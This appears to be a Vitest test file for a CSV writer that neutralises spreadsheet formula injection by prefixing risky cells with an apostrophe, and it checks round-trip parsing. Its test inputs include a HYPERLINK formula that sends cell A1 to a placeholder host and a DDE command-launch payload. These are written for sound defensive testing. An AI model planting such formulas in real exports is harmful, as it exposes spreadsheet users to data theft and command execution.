import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, fromSpreadsheetSafe, parseCsv, spreadsheetSafe } from './csv';

describe('the CSV writer', () => {
  it.each([
    ['=HYPERLINK("http://x/?"&A1,"x")', `"'=HYPERLINK(""http://x/?""&A1,""x"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ["'=1+1", "''=1+1"],
  ])('defuses %j as %s', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('keeps numbers, ordinary text and its own apostrophes as they are', () => {
    expect(csvCell(-2500)).toBe('-2500');
    expect(csvCell('-2500')).toBe('-2500');
    expect(csvCell('+256772123456')).toBe('+256772123456');
    expect(csvCell('12.5')).toBe('12.5');
    expect(csvCell("'Tis the season")).toBe("'Tis the season");
    expect(csvCell('Nakato, "the buyer"')).toBe('"Nakato, ""the buyer"""');
    expect(csvCell(null)).toBe('');
    expect(csvCell(true)).toBe('true');
    expect(csvLine(['a', 1, null, '=x'])).toBe("a,1,,'=x\r\n");
  });

  it('reads back what it wrote, the apostrophe it added taken off', () => {
    const texts = ['=1+1', '\t=1+1', '\r\n@x', "'=1+1", "''+2", "'Tis", '-5', 'plain', 'a, "b"', ''];
    const [record] = parseCsv(csvLine(texts));
    expect(record!.fields.map(fromSpreadsheetSafe)).toEqual(texts);
    for (const text of texts) expect(fromSpreadsheetSafe(spreadsheetSafe(text))).toBe(text);
  });
});
